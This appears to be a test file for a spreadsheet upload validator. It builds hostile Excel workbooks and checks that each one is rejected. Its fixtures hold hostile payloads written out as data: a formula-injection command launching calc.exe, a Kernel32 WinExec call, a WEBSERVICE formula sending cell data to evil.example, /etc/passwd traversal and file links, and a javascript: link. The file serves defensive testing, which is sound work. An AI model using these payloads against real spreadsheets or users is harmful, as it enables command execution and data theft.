import {
  buildContentTypes,
  buildRawWorkbook,
  buildRelations,
  buildWorkbook,
  listWorkbookParts,
  plainRows,
} from '../testing/raw-workbooks.ts'
import { zipRaw } from '../testing/raw-zips.ts'
import { type Hostile, testHostile } from '../testing/trials.ts'

const good = buildRawWorkbook()
const first = 'xl/worksheets/sheet1.xml'
const buildWithPart = (name: string, content: string | Buffer = '<x/>') => buildRawWorkbook({ [name]: content })
const type = (content: string) => buildContentTypes(`<Override PartName="/xl/x.bin" ContentType="${content}"/>`)
const buildWithFormula = (text: string) =>
  buildWorkbook(`${plainRows}<row r="3"><c r="A3"><f>${text}</f><v>1</v></c></row>`)
const buildSheetRelations = (...targets: string[][]) =>
  buildWithPart('xl/worksheets/_rels/sheet1.xml.rels', buildRelations(targets))
const buildWithWorkbook = (inner: string) => {
  const own = String(listWorkbookParts().find(({ name }) => name === 'xl/workbook.xml')!.bytes)
  return buildRawWorkbook({ 'xl/workbook.xml': own.replace('</sheets>', `</sheets>${inner}`) })
}
const shapes: Hostile[] = [
  ['a zip that is not a workbook', 'excel', () => zipRaw([{ name: 'a.xml', bytes: '<a/>' }]), 'notWorkbook'],
  ['a CSV zip as a workbook', 'excel', () => zipRaw([{ name: 'a.csv', bytes: 'a\n1\n' }]), 'workbookForeignPart'],
  [
    'a Word document',
    'excel',
    () =>
      buildRawWorkbook({
        '[Content_Types].xml': buildContentTypes().replaceAll('spreadsheetml.sheet', 'wordprocessingml.document'),
      }),
    'notWorkbook',
  ],
  ['a workbook without content types', 'excel', () => buildRawWorkbook({ '[Content_Types].xml': null }), 'notWorkbook'],
  ['a workbook without relations', 'excel', () => buildRawWorkbook({ '_rels/.rels': null }), 'notWorkbook'],
  [
    'a workbook without a sheet',
    'excel',
    () => buildRawWorkbook({ 'xl/_rels/workbook.xml.rels': buildRelations([]) }),
    'notWorkbook',
  ],
  ['a sheet that is missing', 'excel', () => buildRawWorkbook({ [first]: null }), 'workbookDamaged'],
  [
    'a sheet above the archive',
    'excel',
    () => buildRawWorkbook({ 'xl/_rels/workbook.xml.rels': buildRelations([['worksheet', '../../../etc/passwd']]) }),
    'workbookDamaged',
  ],
  [
    'a template',
    'excel',
    () => buildRawWorkbook({ '[Content_Types].xml': buildContentTypes().replace('.sheet.main', '.template.main') }),
    'notWorkbook',
  ],
  ['hostile metadata', 'metadata', () => buildWithPart('xl/vbaProject.bin'), 'workbookMacros'],
]

const macros: Hostile[] = [
  [
    'a macro workbook',
    'excel',
    () =>
      buildRawWorkbook({
        '[Content_Types].xml': buildContentTypes().replace(
          /"[^"]*sheet\.main\+xml"/,
          '"application/vnd.ms-excel.sheet.macroEnabled.main+xml"',
        ),
      }),
    'workbookMacros',
  ],
  [
    'an add-in',
    'excel',
    () => buildRawWorkbook({ '[Content_Types].xml': type('application/vnd.ms-excel.addin.macroEnabled.main+xml') }),
    'workbookMacros',
  ],
  ['macros by name', 'excel', () => buildWithPart('xl/vbaProject.bin'), 'workbookMacros'],
  ['macros in other letters', 'excel', () => buildWithPart('xl/VBAPROJECT.BIN'), 'workbookMacros'],
  [
    'macros by type',
    'excel',
    () => buildRawWorkbook({ '[Content_Types].xml': type('application/vnd.ms-office.vbaProject') }),
    'workbookMacros',
  ],
  ['controls', 'excel', () => buildWithPart('xl/activeX/activeX1.xml'), 'workbookMacros'],
  ['a macro sheet', 'excel', () => buildWithPart('xl/macrosheets/sheet1.xml'), 'workbookMacros'],
  ['a ribbon of its own', 'excel', () => buildWithPart('customUI/customUI.xml'), 'workbookMacros'],
  [
    'a name that runs at opening',
    'excel',
    () => buildWithWorkbook('<definedNames><definedName name="_xlnm.Auto_Open">a!A1</definedName></definedNames>'),
    'workbookMacros',
  ],
  ['an embedded object', 'excel', () => buildWithPart('xl/embeddings/oleObject1.bin'), 'workbookForeignPart'],
  ['a program as a part', 'excel', () => buildWithPart('xl/media/a.exe'), 'workbookForeignPart'],
  ['a script as a part', 'excel', () => buildWithPart('xl/a.js'), 'workbookForeignPart'],
  ['a zip as a picture', 'excel', () => buildWithPart('xl/media/image1.png', good), 'zipNested'],
  [
    'a compound document as printer settings',
    'excel',
    () => buildWithPart('xl/printerSettings/printerSettings1.bin', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
    'zipNested',
  ],
]

const outside: Hostile[] = [
  ['a linked workbook', 'excel', () => buildWithPart('xl/externalLinks/externalLink1.xml'), 'workbookOutsideLink'],
  ['a connection', 'excel', () => buildWithPart('xl/connections.xml'), 'workbookOutsideLink'],
  ['a query', 'excel', () => buildWithPart('xl/queryTables/queryTable1.xml'), 'workbookOutsideLink'],
  [
    'a picture from outside',
    'excel',
    () => buildSheetRelations(['image', 'https://evil.example/a.png', 'External']),
    'workbookOutsideLink',
  ],
  [
    'a template from outside',
    'excel',
    () => buildSheetRelations(['attachedTemplate', 'file://host/share/a.xltm', 'External']),
    'workbookOutsideLink',
  ],
  [
    'a share of another machine',
    'excel',
    () => buildSheetRelations(['hyperlink', '\\\\host\\share\\a.exe', 'External']),
    'workbookOutsideLink',
  ],
  [
    'a link that runs a script',
    'excel',
    () => buildSheetRelations(['hyperlink', 'javascript:alert(1)', 'External']),
    'workbookOutsideLink',
  ],
  [
    'a link to a local file',
    'excel',
    () => buildSheetRelations(['hyperlink', 'file:///etc/passwd', 'External']),
    'workbookOutsideLink',
  ],
  [
    'an outside target that does not say so',
    'excel',
    () => buildSheetRelations(['image', 'https://evil.example/a.png']),
    'workbookOutsideLink',
  ],
  [
    'a formula that fetches',
    'excel',
    () => buildWithFormula('WEBSERVICE("https://evil.example/?"&amp;A1)'),
    'workbookOutsideLink',
  ],
  [
    'a formula that fetches, in pieces',
    'excel',
    () => buildWithFormula('WEB<!-- -->SERV<![CDATA[ICE]]>(A1)'),
    'workbookOutsideLink',
  ],
  ['a formula that starts a program', 'excel', () => buildWithFormula("cmd|'/C calc.exe'!A0"), 'workbookOutsideLink'],
  [
    'a formula that calls a library',
    'excel',
    () => buildWithFormula('CALL("Kernel32","WinExec","JCJ","calc",0)'),
    'workbookOutsideLink',
  ],
  [
    'a formula into another workbook',
    'excel',
    () => buildWithFormula("'[secret.xlsx]Sheet1'!A1"),
    'workbookOutsideLink',
  ],
  ['a formula into a CSV', 'excel', () => buildWithFormula("'[secret.csv]secret'!A1"), 'workbookOutsideLink'],
  [
    'a formula into a file of another machine',
    'excel',
    () => buildWithFormula("'\\\\host\\share\\[book]Sheet1'!A1"),
    'workbookOutsideLink',
  ],
  [
    'a formula of a table column that fetches',
    'excel',
    () =>
      buildRawWorkbook({
        'xl/tables/table1.xml': `<table><calculatedColumnFormula>_xlfn.WEBSERVICE("h")</calculatedColumnFormula></table>`,
      }),
    'workbookOutsideLink',
  ],
  [
    'a name that fetches',
    'excel',
    () => buildWithWorkbook('<definedNames><definedName name="n">_xlfn.WEBSERVICE("h")</definedName></definedNames>'),
    'workbookOutsideLink',
  ],
]

await testHostile([...shapes, ...macros, ...outside], () => ({ excel: good }))
